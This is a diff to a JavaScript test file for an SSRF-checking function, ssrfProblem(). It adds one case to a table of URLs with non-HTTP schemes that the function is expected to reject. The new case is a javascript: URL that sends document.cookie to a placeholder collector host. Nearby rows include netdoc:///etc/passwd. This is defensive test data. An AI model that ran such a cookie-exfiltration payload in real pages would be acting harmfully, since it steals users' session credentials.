@@ -113,6 +113,7 @@ describe('ssrfProblem()', () => {
     ['ldap://example.com/dc=x', 'non-HTTP scheme ldap:'],
     ['tftp://example.com/boot', 'non-HTTP scheme tftp:'],
     ['jar:http://example.com/a.jar!/x.class', 'non-HTTP scheme jar:'],
+    ['javascript:fetch("https://collector.example/?c="+document.cookie)', 'non-HTTP scheme javascript:'],
     ['netdoc:///etc/passwd', 'non-HTTP scheme netdoc:'],
     ['sftp://example.com/', 'non-HTTP scheme sftp:'],
     ['smb://fileserver/share', 'non-HTTP scheme smb:'],
